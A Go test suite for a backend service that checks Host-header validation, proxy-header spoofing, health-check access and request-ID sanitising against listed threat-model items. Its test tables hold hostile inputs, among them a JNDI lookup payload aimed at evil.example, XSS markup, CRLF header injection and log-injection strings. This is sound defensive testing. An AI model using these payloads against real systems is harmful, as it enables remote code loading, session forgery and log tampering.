package test

import (
	"crypto/x509"
	"fmt"
	"net/http"
	"net/netip"
	"regexp"
	"strings"
	"testing"

	"github.com/upstash-connect/bff/internal/config"
	"github.com/upstash-connect/bff/test/harness"
)

// Threat model: H08.
func TestForeignHostsAreRejected(t *testing.T) {
	var f harness.Front
	m := harness.StartWithMember(t, harness.WithFront(t, &f))
	_, port, _ := strings.Cut(m.Host(), ":")
	authorization := "Authorization: " + m.Header.Get("Authorization") + "\r\n"
	request := func(target string, hosts ...string) string {
		lines := ""
		for _, host := range hosts {
			lines += "Host: " + host + "\r\n"
		}

		return "GET " + target + " HTTP/1.1\r\n" + lines + authorization + "Connection: close\r\n\r\n"
	}

	rows := map[string]struct {
		request string
		status  []int
	}{
		"another name":                 {request(harness.DatabasesPath, "evil.example"), []int{421}},
		"another name with our port":   {request(harness.DatabasesPath, "evil.example:"+port), []int{421}},
		"our name without the port":    {request(harness.DatabasesPath, "localhost"), []int{421}},
		"our name with another port":   {request(harness.DatabasesPath, "localhost:1"), []int{421}},
		"our address":                  {request(harness.DatabasesPath, "127.0.0.1:"+port), []int{421}},
		"a name that ends in ours":     {request(harness.DatabasesPath, "evil-"+m.Host()), []int{421}},
		"a name that begins with ours": {request(harness.DatabasesPath, "localhost.evil.example:"+port), []int{421}},
		"a dot at the end":             {request(harness.DatabasesPath, "localhost.:"+port), []int{421}},
		"a user": {
			request(harness.DatabasesPath, "localhost:"+port+"@evil.example"),
			[]int{400, 421},
		},
		"a user before ours":    {request(harness.DatabasesPath, "evil.example@"+m.Host()), []int{400, 421}},
		"an IPv6 zone":          {request(harness.DatabasesPath, "[::1%25eth0]:"+port), []int{400, 421}},
		"a broken IPv6 address": {request(harness.DatabasesPath, "[::1"), []int{400, 421}},
		"a path":                {request(harness.DatabasesPath, m.Host()+"/x"), []int{400, 421}},
		"two in one":            {request(harness.DatabasesPath, m.Host()+", evil.example"), []int{400, 421}},
		"a space":               {request(harness.DatabasesPath, "evil.example "+m.Host()), []int{400, 421}},
		"a percent sign":        {request(harness.DatabasesPath, "localhost%3a"+port), []int{400, 421}},
		"empty":                 {request(harness.DatabasesPath, ""), []int{421}},
		"none":                  {request(harness.DatabasesPath), []int{400}},
		"two":                   {request(harness.DatabasesPath, m.Host(), "evil.example"), []int{400}},
		"two equal ones":        {request(harness.DatabasesPath, m.Host(), m.Host()), []int{400}},
		"in the target":         {request("http://evil.example"+harness.DatabasesPath, m.Host()), []int{421}},
		"in the target, with ours behind": {
			request("http://evil.example:80@"+m.Host()+harness.DatabasesPath, m.Host()),
			[]int{400, 421},
		},
		"in a target without a scheme": {request("//evil.example"+harness.DatabasesPath, m.Host()), []int{404}},
		"in the target, on the page":   {request("http://evil.example/", m.Host()), []int{421}},
		"on the page":                  {request("/", "evil.example"), []int{421}},
		"on a path that is not":        {request("/api/v1/none", "evil.example"), []int{421}},
	}
	for name, row := range rows {
		t.Run(name, func(t *testing.T) {
			f.SendsNothing(t, func() {
				got := m.Raw(t, row.request)

				wanted := false
				for _, status := range row.status {
					wanted = wanted || got.Status == status
				}

				if !wanted {
					t.Errorf("got status %d, want one of %v", got.Status, row.status)
				}

				if got.Status == 421 && !strings.Contains(got.Body, `"misdirected_request"`) {
					t.Errorf("got %s", got.Body)
				}

				if strings.Contains(got.Body+fmt.Sprint(got.Header), "evil.example") &&
					!strings.Contains(row.request, "GET //") {
					t.Errorf("the response contains the foreign name: %v %s", got.Header, got.Body)
				}

				if got.Header.Get("Location") != "" || got.Header.Get("Set-Cookie") != "" {
					t.Errorf("the response redirects: %v", got.Header)
				}
			})
		})
	}

	for name, row := range map[string]string{
		"ours":               request(harness.DatabasesPath, m.Host()),
		"ours in capitals":   request(harness.DatabasesPath, strings.ToUpper(m.Host())),
		"ours in the target": request("http://"+m.Host()+harness.DatabasesPath, m.Host()),
		"health with any":    request("/livez", "10.0.0.1:"+port),
		"readiness with any": request("/readyz", "evil.example"),
		// RFC 9112 section 3.2.2
		"the target outranks it": request("http://"+m.Host()+harness.DatabasesPath, "evil.example"),
	} {
		t.Run(name, func(t *testing.T) {
			if got := m.Raw(t, row); got.Status != 200 || strings.Contains(got.Body, "evil.example") {
				t.Errorf("got %d %s, want 200", got.Status, got.Body)
			}
		})
	}
}

// claims are proxy headers about the original request, in every known spelling.
func forwardingClaims() http.Header {
	header := http.Header{}
	for name, value := range map[string]string{
		"X-Forwarded-For": "203.0.113.7", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "X-Forwarded-Uri": "/api/v1/session", "X-Forwarded-User": "admin",
		"X-Forwarded-Email": "other@example.com", "X-Forwarded-Port": "443", "X-Forwarded-Prefix": "/evil", "Forwarded": `for=203.0.113.7;host=evil.example;proto=https`, "X-Real-Ip": "203.0.113.7",
		"True-Client-Ip": "203.0.113.7", "Cf-Connecting-Ip": "203.0.113.7", "X-Client-Ip": "203.0.113.7", "X-Original-Host": "evil.example", "X-Url-Scheme": "https", "Front-End-Https": "on",
		"X_Forwarded_User": "admin", "X_forwarded_for": "203.0.113.7", "x-FORWARDED-for": "203.0.113.7", "Remote-User": "admin", "X-Remote-User": "admin", "X-Auth-Request-Email": "other@example.com",
	} {
		header[name] = []string{value}
	}

	return header
}

// Threat model: H09.
func TestUntrustedProxyHeadersAreIgnored(t *testing.T) {
	p := harness.StartProduct(t)
	one, other := p.AddMember(t, "one@example.com"), p.AddMember(t, "other@example.com")
	kept := other.Create(t, "", harness.CreateBody("kept")).Database(t, 201)

	got := one.Do(
		t,
		"GET",
		harness.DatabasesPath,
		harness.Merged(forwardingClaims(), one.Header, http.Header{"X-Request-Id": {"with-claims"}}),
		"",
	).Is(
		t, 200,
	)
	if strings.Contains(got.Body, kept.ID) {
		t.Error("a header made one account another")
	}

	if entry := p.Logged(t, "with-claims"); entry["client"] != "127.0.0.1" {
		t.Errorf("got client %v in the log, want the peer's address", entry["client"])
	}
	p.Do(t, "GET", harness.DatabasesPath, forwardingClaims(), "").IsProblem(t, 401, "authentication_required")
	// The scheme is ours to know: cookie and links are as without the claims.
	login := p.Do(
		t,
		"POST",
		"/api/v1/session",
		harness.Merged(forwardingClaims(), harness.Bearer(p.TokenOf(t, "one@example.com"))),
		"",
	).Is(
		t, 201,
	)
	p.SessionCookie(t, login)

	if cookie := login.Header.Get(
		"Set-Cookie",
	); !strings.HasPrefix(cookie, "session=") || strings.Contains(cookie, "Secure") ||
		strings.Contains(cookie, "Domain") {
		t.Errorf("the claims changed the cookie: %s", strings.SplitN(cookie, ";", 2)[1])
	}

	if login.Header.Get("Strict-Transport-Security") != "" {
		t.Error("the claims changed the scheme")
	}

	created := one.Do(
		t, "POST", harness.DatabasesPath, harness.Merged(forwardingClaims(), one.Header), harness.CreateBody("x"),
	).Is(
		t, 201,
	)
	if location := created.Header.Get("Location"); !strings.HasPrefix(location, harness.DatabasesPath+"/") {
		t.Errorf("got Location %q, want our own path", location)
	}

	for name, header := range map[string]http.Header{"host": {"X-Forwarded-Host": {p.Host()}, "Host": {"evil.example"}}, "origin": {"Host": {"evil.example"}, "Forwarded": {"host=" + p.Host()}}} {
		t.Run(name, func(t *testing.T) {
			p.Do(
				t, "GET", harness.DatabasesPath, harness.Merged(one.Header, header), "",
			).IsProblem(t, 421,
				"misdirected_request")
		})
	}
}

// Threat model: H09.
func TestTrustedProxySetsOnlyTheClientAddress(t *testing.T) {
	trusted := netip.MustParsePrefix("127.0.0.1/32")

	m := harness.StartWithMember(
		t, harness.WithConfig(func(c *config.Config) { c.TrustedProxies = []netip.Prefix{trusted} }),
	)
	for id, row := range map[string]struct {
		forwarded []string
		want      string
	}{
		"one": {[]string{"203.0.113.7"}, "203.0.113.7"},
		// anyone can write the entries before the last
		"chain":     {[]string{"198.51.100.1, 203.0.113.7"}, "203.0.113.7"},
		"two-lines": {[]string{"198.51.100.1", "203.0.113.7"}, "203.0.113.7"},
		"nonsense":  {[]string{"<script>"}, "127.0.0.1"},
		"with-port": {[]string{"203.0.113.9:51234"}, "203.0.113.9"},
		"v6-port":   {[]string{"[2001:db8::9]:443"}, "2001:db8::9"},
		"v6":        {[]string{"2001:DB8:0::9"}, "2001:db8::9"},
		"quoted":    {[]string{`198.51.100.1, "[2001:db8::9]:443"`}, "2001:db8::9"},
		"unknown":   {[]string{"198.51.100.1, unknown"}, "127.0.0.1"},
		"all-ours":  {[]string{"127.0.0.1:80"}, "127.0.0.1"},
		"none":      {nil, "127.0.0.1"},
	} {
		header := forwardingClaims()
		delete(header, "x-FORWARDED-for") // of two spellings of one name, the server would see two lines
		header["X-Forwarded-For"] = row.forwarded
		m.Do(
			t, "GET", harness.DatabasesPath, harness.Merged(header, m.Header, http.Header{"X-Request-Id": {id}}), "",
		).Is(
			t, 200,
		)

		if entry := m.Logged(t, id); entry["client"] != row.want {
			t.Errorf("%s: got client %v, want %s", id, entry["client"], row.want)
		}
	}

	login := m.Do(
		t, "POST", "/api/v1/session", harness.Merged(forwardingClaims(), harness.Bearer(m.TokenOf(t, m.Email))), "",
	).Is(
		t, 201,
	)
	if strings.Contains(m.SessionCookie(t, login).String(), "Secure") {
		t.Error("a named proxy changed the scheme")
	}
}

// Threat model: H10.
func TestHealthCheckHostsReachNothingElse(t *testing.T) {
	p := harness.StartProduct(t)
	for _, agent := range []string{"GoogleHC/1.0", "kube-probe/1.31", "ELB-HealthChecker/2.0", "Amazon-Route53-Health-Check-Service", "UptimeRobot/2.0", "Prometheus/2.51"} {
		for _, path := range []string{harness.DatabasesPath, "/api/v1/connection", "/api/v1/session", "/api/v1/catalog"} {
			p.Do(t, "GET", path, http.Header{"User-Agent": {agent}}, "").IsProblem(t, 401, "authentication_required")
		}
	}
}

// What load balancers send when they are configured to request /readyz by address; docs/operate/deploy.md explains
// how to configure them.
//
// Threat model: H10.
func TestLoadBalancersCheckHealthByAddress(t *testing.T) {
	roots := x509.NewCertPool()
	plain, secure := harness.StartProduct(t), harness.StartProduct(t, harness.WithTLS(t, roots))

	for name, lines := range map[string]string{
		"HAProxy, by default":         "GET /readyz HTTP/1.0\r\n",
		"HAProxy, by http-check send": "HEAD /readyz HTTP/1.1\r\nhost: 10.0.0.7:8080\r\n",
		"nginx Plus":                  "GET /readyz HTTP/1.0\r\nHost: backend\r\nUser-Agent: nginx/1.27 (health check)\r\nConnection: close\r\n",
		"ALB":                         "GET /readyz HTTP/1.1\r\nHost: 10.0.0.7:8080\r\nConnection: close\r\nUser-Agent: ELB-HealthChecker/2.0\r\nAccept-Encoding: gzip, compressed\r\n",
		"GCE":                         "GET /readyz HTTP/1.1\r\nHost: 10.0.0.7\r\nUser-Agent: GoogleHC/1.0\r\nConnection: Keep-alive\r\n",
		"Kubernetes":                  "GET /readyz HTTP/1.1\r\nHost: 10.244.0.7:8080\r\nUser-Agent: kube-probe/1.31\r\nAccept: */*\r\nConnection: close\r\n",
		"Kubernetes, over IPv6":       "GET /livez HTTP/1.1\r\nHost: [fd00::7]:8080\r\nUser-Agent: kube-probe/1.31\r\nAccept: */*\r\nConnection: close\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			if got := plain.Raw(t, lines+"\r\n"); got.Status != 200 {
				t.Errorf("got %d %s, want 200", got.Status, got.Body)
			}
		})
	}

	for name, lines := range map[string]string{
		"a GET of the root, by address":      "GET / HTTP/1.1\r\nHost: 10.0.0.7:8080\r\n",
		"an OPTIONS of the root, by address": "OPTIONS / HTTP/1.1\r\nHost: 10.0.0.7:8080\r\n",
		"an OPTIONS of the root":             "OPTIONS / HTTP/1.0\r\n",
	} {
		t.Run("not "+name, func(t *testing.T) {
			if got := plain.Raw(t, lines+"\r\n"); got.Status != 421 {
				t.Errorf("got %d %s, want 421", got.Status, got.Body)
			}
		})
	}
	t.Run("over TLS and HTTP/2", func(t *testing.T) {
		c := secure.DialH2(t, roots)
		fields := c.Get("/readyz")
		fields[2].Value = "10.0.0.7:8443"

		if status, refused := c.Ask(t, fields); status != "200" {
			t.Errorf("got status %q, rejected %t; want 200", status, refused)
		}
	})
}

// Threat model: H12.
func TestClientRequestIDsAreIgnored(t *testing.T) {
	m := harness.StartWithMember(t)

	form := regexp.MustCompile(`^[A-Za-z0-9-]{1,64}$`)
	for name, value := range map[string]string{
		"a lookup": "${jndi:ldap://evil.example/a}", "markup": "<script>alert(1)</script>", "65 letters": strings.Repeat("a", 65), "20 KB": strings.Repeat("a", 20<<10),
		"a space": "a b", "a line": `a\nb`, "JSON": `","level":"ERROR","x":"`, "beyond ASCII": "идентификатор", "a percent sign": "%0d%0a", "a path": "../../x", "an underscore": "a_b", "empty": "", "tabs": "a\tb",
	} {
		t.Run(name, func(t *testing.T) {
			got := m.Do(
				t, "GET", harness.DatabasesPath, harness.Merged(m.Header, http.Header{"X-Request-Id": {value}}), "",
			).Is(
				t, 200,
			)

			id := got.Header.Get("X-Request-Id")
			if !form.MatchString(id) || id == value {
				t.Errorf("got id %q, want one of our own", id)
			}
			m.Logged(t, id)

			if value != "" && len(value) > 3 && strings.Contains(m.Log.String(), value) {
				t.Error("the log contains the caller's text")
			}
		})
	}

	for name, value := range map[string]string{"ANSI escapes": "a\x1b[31mred", "a carriage return": "a\rSet-Cookie: x=y", "a line feed": "a\nSet-Cookie: x=y", "a zero": "a\x00b", "1 MB": strings.Repeat("a", 1<<20)} {
		t.Run(name, func(t *testing.T) {
			got := m.Raw(t,
				"GET /livez HTTP/1.1\r\nHost: "+m.Host()+"\r\nX-Request-ID: "+value+"\r\nConnection: close\r\n\r\n")
			if got.Header.Get("Set-Cookie") != "" ||
				got.Status == 200 && !form.MatchString(got.Header.Get("X-Request-Id")) {
				t.Errorf("got %d %v", got.Status, got.Header)
			}
		})
	}

	for _, good := range []string{"a", strings.Repeat("a", 64), "96ad0856-03b1-4ee7-9666-e81abd0349e1"} {
		got := m.Do(t, "GET", "/livez", http.Header{"X-Request-Id": {good}}, "").Is(t, 200)
		if id := got.Header.Get("X-Request-Id"); id != good {
			t.Errorf("got id %q, want the caller's, %q", id, good)
		}
	}
	// The id of somebody else's request is a word like any other: it opens nothing.
	m.Do(
		t, "GET", harness.DatabasesPath, http.Header{"X-Request-Id": {"a"}}, "",
	).IsProblem(t, 401,
		"authentication_required")
}

// Threat model: H13.
func TestAPIReturnsJSONForAnyAccept(t *testing.T) {
	m := harness.StartWithMember(t)
	for name, header := range map[string]http.Header{
		"HTML": {"Accept": {"text/html"}}, "XML": {"Accept": {"application/xml"}}, "nothing at all": {"Accept": {"*/*;q=0"}}, "no JSON": {"Accept": {"application/json;q=0, text/html"}},
		"nonsense": {"Accept": {"%%%;;;q=x,,,"}}, "a browser's": {"Accept": {"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}, "Upgrade-Insecure-Requests": {"1"}, "Sec-Fetch-Dest": {"document"}, "Sec-Fetch-Mode": {"navigate"}},
		"a long list": {"Accept": {strings.Repeat("text/html;q=0.1,", 1000)}}, "absurd languages": {"Accept-Language": {strings.Repeat("xx-YY;q=0.1,", 1000)}}, "a charset": {"Accept-Charset": {"utf-16"}}, "an encoding": {"Accept-Encoding": {"br;q=1, identity;q=0"}},
	} {
		t.Run(name, func(t *testing.T) {
			m.Do(t, "GET", harness.DatabasesPath, header, "").IsProblem(t, 401, "authentication_required")
			m.Do(t, "GET", "/api/v1/none", header, "").IsProblem(t, 404, "not_found")
			m.Do(t, "PATCH", harness.DatabasesPath, header, "").IsProblem(t, 405, "method_not_allowed")
			m.Do(
				t, "POST", harness.DatabasesPath, harness.Merged(m.Header, header), "{}",
			).IsProblem(t, 422,
				"validation_failed")

			got := m.Do(t, "GET", harness.DatabasesPath, harness.Merged(m.Header, header), "").Is(t, 200)
			if kind := got.Header.Get(
				"Content-Type",
			); !strings.HasPrefix(kind, "application/json") ||
				got.Header.Get("Content-Encoding") != "" {
				t.Errorf("got %s, %s; want plain JSON", kind, got.Header.Get("Content-Encoding"))
			}
		})
	}
}
